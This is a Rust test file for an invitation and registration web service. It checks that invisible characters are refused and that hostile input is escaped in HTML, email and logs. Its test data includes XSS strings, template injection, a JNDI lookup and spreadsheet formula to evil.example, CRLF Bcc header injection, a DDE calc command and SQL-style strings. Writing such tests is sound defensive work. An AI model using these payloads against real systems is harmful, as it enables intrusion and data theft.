//! Text that tries to be code: in headers, emails, pages and logs (R13, R30, R40).

use serde_json::{Value, json};
use tests::{Host, answers, fresh_address, link_in, subject};
use ureq::http::Request;

/// Characters that end a line, are invisible, or reverse the direction of text.
const UNSEEN: [&str; 16] = [
    "\r\n",
    "\n",
    "\r",
    "\u{b}",
    "\u{c}",
    "\u{85}",
    "\u{2028}",
    "\u{2029}",
    "\u{0}",
    "\u{1b}",
    "\t",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{feff}",
    "\u{e0041}",
];

/// Visible text that has a meaning for some parser.
const HOSTILE: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "&lt;b&gt; &#x3c;b&#x3e;",
    "]]><!--",
    "{{ 7919*7919 }} {% raw %} ${7919*7919} #{7919*7919}",
    "${jndi:ldap://evil.example/a}",
    "%0d%0aBcc: all@evil.example",
    "=?utf-8?B?QmNjOg==?=",
    "\"Boss\" <boss@agency.gov.sg>",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "javascript:alert(1)",
    "\"},{\"level\":\"ERROR\"",
];

/// No free text may contain such a character. An address may have lines, but none of the others.
#[test]
fn invisible_characters_are_refused_in_every_field() {
    let host = Host::without_limits("5d");
    let officer = host.officer();
    let invited = host.invited(&officer, &answers::offshore_elsewhere(&fresh_address("vendor.example")));
    let form = answers::registration_elsewhere();
    for unseen in UNSEEN {
        for field in ["email", "offshore_company_name"] {
            let mut body = answers::offshore_elsewhere(&fresh_address("vendor.example"));
            body[field] = format!("a{unseen}Bcc: b@vendor.example").into();
            let errors = host.invite(&officer.token, &body).field_errors("validation_failed");
            assert_eq!(errors, [(field.to_owned(), "invalid".to_owned())], "{field} {unseen:?}");
        }
        let fields = ["username", "first_name", "last_name", "mobile_number", "department"];
        let elsewhere = ["reporting_officer_name", "reporting_officer_email", "company_address"];
        for field in fields.into_iter().chain(elsewhere) {
            if field == "company_address" && ["\r\n", "\n"].contains(&unseen) {
                continue;
            }
            let mut form = form.clone();
            form[field] = format!("a{unseen}Bcc").into();
            let errors = host.register(&invited.link, &form).field_errors("validation_failed");
            assert_eq!(errors, [(field.to_owned(), "invalid".to_owned())], "{field} {unseen:?}");
        }
        let officer = host.officer_with(&json!({ "email": format!("a{unseen}b@tech.gov.sg") }));
        host.look_up(&officer.token, "x").problem(403, "not_a_public_officer");
    }
    host.register(&invited.link, &form).json(201);
}

/// Input stays text everywhere: escaped in HTML, in no header and no subject, and one line of the log stays one line.
#[test]
fn input_is_text_everywhere() {
    let host = Host::without_limits("5d");
    for hostile in HOSTILE {
        // A subject (`sub`) comes from the issuer, and is still only text.
        let officer = host.officer_with(&json!({ "sub": format!("{hostile}\n{{\"level\":\"ERROR\"}}") }));
        let email = fresh_address("vendor.example");
        let mut body = answers::offshore_elsewhere(&email);
        body["offshore_company_name"] = hostile.into();
        let request = Request::post(host.url("/invitations"))
            .header("authorization", format!("Bearer {}", officer.token))
            .header("content-type", "application/json")
            .header("idempotency-key", format!("k{hostile}"))
            .header("user-agent", hostile)
            .header("accept-language", hostile);
        let reply = host.send(request, body.to_string());
        assert_eq!(reply.json(201)["offshore_company_name"], hostile);
        assert_eq!(
            reply.header("location"),
            format!("/invitations/{}", reply.json(201)["id"].as_str().unwrap())
        );
        let mail = host.mail_to(&email, subject::REGISTER);
        let mut form = answers::registration_elsewhere();
        form["mobile_number"] = tests::fresh_mobile().into();
        form["department"] = hostile.into();
        form["company_address"] = format!("{hostile}\n{hostile}").into();
        form[hostile] = hostile.into();
        let page = host.submit(&link_in(&mail), &form);
        assert_markup(page.page(422), hostile);
        assert_markup(host.open(&format!("{}?lang={}", link_in(&mail), encoded(hostile))).page(200), hostile);
        form.as_object_mut().unwrap().remove(hostile);
        host.submit(&link_in(&mail), &form).page(201);
        host.mail_to(&officer.email, subject::REGISTERED);
        let mails = host.mails_to(&email).into_iter().chain(host.mails_to(&officer.email));
        for mail in mails {
            assert_markup(&mail.html, hostile);
            assert!(!mail.subject.contains(hostile), "{}", mail.subject);
            assert_eq!(mail.headers, [("Auto-Submitted".to_owned(), "auto-generated".to_owned())]);
            assert_eq!((mail.to.len(), mail.reply_to.len()), (1, 0), "{mail:?}");
            assert!(!mail.text.contains("62710561"), "a template was evaluated: {}", mail.text);
        }
    }
    assert_logs_are_whole(&host);
}

/// R13: mailboxes may have odd names. Accepted ones are emailed unchanged, and shown as text.
#[test]
fn odd_addresses_are_only_addresses() {
    let host = Host::without_limits("5d");
    for refused in ["=cmd|'/c'!a0", "{{7*7}}", "`id`", "x&lt", "'or'1'='1", "%0d%0abcc", "${id}"] {
        let email = format!("{refused}-{}", fresh_address("vendor.example"));
        let problem =
            host.invite(&host.officer().token, &answers::onshore(&email)).problem(422, "validation_failed");
        assert_eq!(problem["errors"][0]["field"], "email", "{email}: {problem}");
    }
    for name in ["d'or'1'--1", "alert'x'", "65.1+1", "script-1'on_load"] {
        let officer = host.officer();
        let email = format!("{name}-{}", fresh_address("vendor.example"));
        let invited = host.invited(&officer, &answers::onshore(&email));
        assert_eq!(invited.email, email);
        let mail = host.mail_to(&email, subject::REGISTER);
        assert_eq!(mail.to, [&*email]);
        assert!(mail.text.contains(&email), "{}", mail.text);
        assert_eq!(host.invitation(&officer, &invited.id)["email"], email);
        for html in [&mail.html, host.open(&invited.link).page(200)] {
            let escaped = |text: &str| text.replace('&', "&#38;").replace('\'', "&#39;");
            assert!(html.contains(&escaped(&email)), "{email} in {html}");
        }
    }
    assert_logs_are_whole(&host);
}

/// The markup is only the service's own: input made no tag, attribute or comment.
#[track_caller]
fn assert_markup(html: &str, typed: &str) {
    for forbidden in
        ["<script", "<img", " onerror=alert(1)>", "<boss@", "<!--", "href=\"javascript:", "'alert("]
    {
        assert!(!html.contains(forbidden), "{forbidden} of {typed} in {html}");
    }
    assert!(!html.contains("href=\"http://evil"), "{typed} in {html}");
}

/// Each line of a function's log is one JSON object, with one of the program's messages.
#[track_caller]
fn assert_logs_are_whole(host: &Host) {
    let logs: Vec<_> = host
        .said()
        .into_iter()
        .filter(|(file, _)| file.extension().is_some_and(|ext| ext == "log"))
        .collect();
    assert!(logs.len() > 2, "there are logs");
    for (file, log) in &logs {
        for line in log.lines() {
            let whole = serde_json::from_str::<Value>(line).is_ok_and(|line| line["message"].is_string());
            assert!(whole, "{}: {line}", file.display());
            assert!(!line.contains("evil"), "{}: {line}", file.display());
        }
    }
}

fn encoded(text: &str) -> String {
    serde_urlencoded::to_string([("", text)]).unwrap()[1..].to_owned()
}
